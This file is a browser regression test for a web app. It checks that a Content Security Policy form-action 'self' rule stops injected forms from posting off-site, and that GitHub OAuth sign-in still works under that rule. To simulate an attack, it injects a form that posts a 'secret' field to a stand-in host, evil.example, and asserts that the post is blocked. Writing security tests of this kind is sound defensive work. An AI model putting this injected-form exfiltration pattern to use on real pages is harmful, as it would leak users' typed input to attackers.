// Fails on 20aeeb1: a form could post to any origin (no CSP form-action), so injected markup could send a reader's input to another site.
import { chromium, type Browser } from "@playwright/test";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { requirePostgresForHttpSuite, startAppCluster, type AppCluster } from "../support/app-cluster";

// In Chromium, which enforces the policy: forms may post only to this origin, and the OAuth sign-in
// (a same-origin POST to /api/auth/signin/github, then a navigation to the provider) still works.
describe.runIf(await requirePostgresForHttpSuite())("CSP form-action 'self' in the browser", () => {
  let cluster: AppCluster;
  let browser: Browser;
  let url: string;

  beforeAll(async () => {
    cluster = await startAppCluster(1, { AUTH_GITHUB_ID: "agora-test-client", AUTH_GITHUB_SECRET: "agora-test-client-secret" });
    url = cluster.servers[0]!.url;
    browser = await chromium.launch({
      executablePath: process.env.CHROMIUM_PATH ?? "/usr/bin/chromium",
      args: ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
    });
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await cluster?.dispose();
  });

  it("refuses a form that posts to another origin (nothing reaches it), while Continue with GitHub still reaches GitHub with no violation", async () => {
    const page = await browser.newPage();
    const violations: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    const stolen: string[] = [];
    await page.route("https://evil.example/**", async (route) => {
      stolen.push(route.request().postData() ?? "");
      await route.fulfill({ status: 200, contentType: "text/html", body: "thanks" });
    });
    // No network here: GitHub is a stub that records where the browser was sent.
    const reached: string[] = [];
    await page.route("https://github.com/**", async (route) => {
      reached.push(route.request().url());
      await route.fulfill({ status: 200, contentType: "text/html", body: "<title>GitHub stub</title>" });
    });
    await page.goto(`${url}/signin`);

    // What injected markup would do: a form to another site, submitted with what the reader typed.
    const directive = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
          const form = document.createElement("form");
          form.method = "post";
          form.action = "https://evil.example/collect";
          const input = document.createElement("input");
          input.name = "secret";
          input.value = "what the reader typed";
          form.append(input);
          document.body.append(form);
          form.submit();
        }),
    );
    expect(directive).toBe("form-action");
    expect(stolen).toEqual([]);
    expect(page.url()).toBe(`${url}/signin`);
    violations.length = 0; // that one was the point
    await page.goto(`${url}/signin`);

    // The OAuth sign-in under the same policy: next-auth posts to /api/auth/signin/github (same
    // origin, by fetch) and then navigates to the provider, which form-action does not govern.
    await page.getByRole("button", { name: "Continue with GitHub" }).click();
    await page.waitForURL(/^https:\/\/github\.com\/login\/oauth\/authorize\?/);
    const authorize = new URL(reached[0]!);
    expect(authorize.searchParams.get("client_id")).toBe("agora-test-client");
    expect(authorize.searchParams.get("redirect_uri")).toBe(`${url}/api/auth/callback/github`);
    expect(violations).toEqual([]);
    await page.close();
  });
});
